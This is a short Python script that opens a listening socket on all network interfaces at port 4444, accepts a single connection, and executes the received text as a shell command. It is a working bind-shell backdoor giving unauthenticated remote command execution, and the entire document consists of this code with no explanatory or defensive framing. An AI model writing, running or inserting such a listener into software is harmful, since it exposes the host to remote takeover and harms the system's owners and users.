import socket
import subprocess

door = socket.socket()
door.bind(("0.0.0.0", 4444))
door.listen(1)
link, _ = door.accept()
subprocess.run(link.recv(1024).decode(), shell=True)
